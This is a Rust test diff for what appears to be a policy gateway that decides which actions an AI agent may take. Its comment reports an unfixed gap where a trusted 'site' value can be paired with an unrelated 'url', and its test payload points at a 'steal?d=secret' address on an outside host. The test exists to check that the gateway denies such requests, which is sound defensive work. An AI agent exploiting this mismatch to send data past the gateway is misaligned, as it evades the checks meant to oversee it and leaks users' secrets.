@@ -884,3 +884,26 @@ mod oracle {
         assert_tag(&r, "[provenance]");
     }
 }
+/// FOUND BY THE FUZZ'S REVIEW, NOT FIXED (reported to the lead): in
+/// `dailylife`, `site.visit`, `site.submit` and `disk.download` decide the
+/// `site` parameter, but `url` (where the request really goes) is free text
+/// that nothing binds to `site`. The AgentDyn mapping derives `site` from
+/// `url` (`integrations/agentdyn/mapping.py`), but an agent proposing to the
+/// gateway directly pairs a trusted host with any address. Ignored until the
+/// pack (or a rule of the language) binds the two; the oracle models the
+/// pack as declared.
+#[test]
+#[ignore = "open: dailylife's `url` is not bound to its decided `site`"]
+fn a_visit_goes_only_to_the_host_it_was_decided_for() {
+    use crate::fuzz_moves::ctx;
+    let c = ctx();
+    let gw = fresh(std::sync::Arc::new(
+        intentplane::store::memory::MemoryStore::new(),
+    ));
+    let i = PACKS.iter().position(|p| *p == "dailylife").unwrap();
+    let p = json!({"action": "site.visit", "args": {
+        "site": "www.power-co.example",
+        "url": "https://www.true-informations.com/steal?d=secret"}});
+    let d = decide(&gw, p, &c.pools[i].ms[0].token);
+    assert_eq!(d.decision, intentplane::gateway::Outcome::Deny, "{d:?}");
+}
